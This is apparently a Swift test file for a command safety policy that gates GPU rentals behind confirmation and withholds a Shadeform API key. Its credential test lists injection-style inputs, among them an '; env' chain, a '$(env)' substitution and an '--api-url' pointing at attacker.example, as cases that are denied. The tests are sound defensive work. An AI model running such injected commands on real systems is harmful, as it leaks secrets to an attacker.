import Foundation
import MybroCore
import Testing

@testable import MybroExec

@Suite struct GPUPolicyTests {
    let policy = SafetyPolicy.shipped
    let workspace = "/tmp/mybro-gpu-policy-ws"

    @Test(arguments: [
        "mybro-gpu run --gpu H100 --name train --budget 10 --ttl 2h --upload . -- make train",
        "mybro-gpu launch --gpu A100", "mybro-gpu delete mybro-train-1a2b3c4d", "mybro-gpu reap",
    ])
    func rentingOrTearingDownWaitsForAYes(command: String) {
        guard case .confirm = policy.evaluate(command: command, workspace: workspace) else {
            Issue.record("\(command) must wait for a yes")
            return
        }
    }

    @Test(arguments: [
        "mybro-gpu offers --gpu H100 --count 2 --format table", "mybro-gpu list", "mybro-gpu costs --format table",
        "mybro-gpu status mybro-train-1a2b3c4d",
    ])
    func readingRunsAtOnce(command: String) {
        #expect(policy.evaluate(command: command, workspace: workspace) == .allow, "\(command)")
    }

    @Test func onlyAPlainCallOfMybroGPUGetsTheKey() {
        #expect(
            policy.credentials(forCommand: "mybro-gpu offers --gpu H100", workspace: workspace) == ["SHADEFORM_API_KEY"]
        )
        for command in [
            "make train", "env", "mybro-gpu offers; env", "mybro-gpu offers | tee x", "mybro-gpu offers > out",
            "X=1 mybro-gpu offers", "mybro-gpu offers --gpu $(env)", "sh -c 'mybro-gpu offers'",
            "mybro-gpu offers --api-url http://attacker.example/v1", "./mybro-gpu offers", "mybro-gpu offers *",
        ] {
            #expect(policy.credentials(forCommand: command, workspace: workspace).isEmpty, "\(command)")
        }
    }

    @Test func anOrdinaryJobSeesNoKey() throws {
        var configuration = ExecConfiguration(directory: workspace)
        configuration.policy = policy
        let base = ["SHADEFORM_API_KEY": "sk-secret", "PATH": "/usr/bin"]
        for command in ["make train", "env", "mybro-gpu offers; env"] {
            let environment = Job.environment(
                for: .shell(command: command, task: nil), configuration: configuration, temporaryDirectory: "/tmp",
                base: base)
            #expect(environment["SHADEFORM_API_KEY"] == nil, "\(command)")
        }
    }

    @Test func theQuestionNamesThePriceAndTheCap() {
        let arguments = ["--gpu", "H100", "--count", "2", "--budget", "25", "--nvlink", "--upload", "."]
        let query = GPUQuote.offerQuery(arguments)
        #expect(query.query == ["--gpu", "H100", "--count", "2", "--nvlink"])
        #expect(query.budget == "25")
        #expect(GPUQuote.spokenDollars(cents: 249) == "2 dollars 49")
        #expect(GPUQuote.spokenDollars(cents: 100) == "1 dollar")
        #expect(GPUQuote.spokenDollars("10") == "10 dollars")
        #expect(GPUQuote.spokenDollars(cents: 50) == "50 cents")
        // mybro-gpu cannot be found here: the question says the price is unknown and still names the cap.
        let quote = GPUQuote.quote(arguments: arguments, environment: ["PATH": "/nonexistent"])
        #expect(
            quote.sentence
                == "This rents two GPUs, and I could not get the price: 25 dollars at most. Say yes to go ahead.")
        #expect(
            GPUQuote.paidLaunch(
                "mybro-gpu run --gpu H100 -- make train --count 9", policy: policy, workspace: workspace)
                == ["--gpu", "H100"])
        #expect(GPUQuote.paidLaunch("mybro-gpu offers", policy: policy, workspace: workspace) == nil)
    }
}
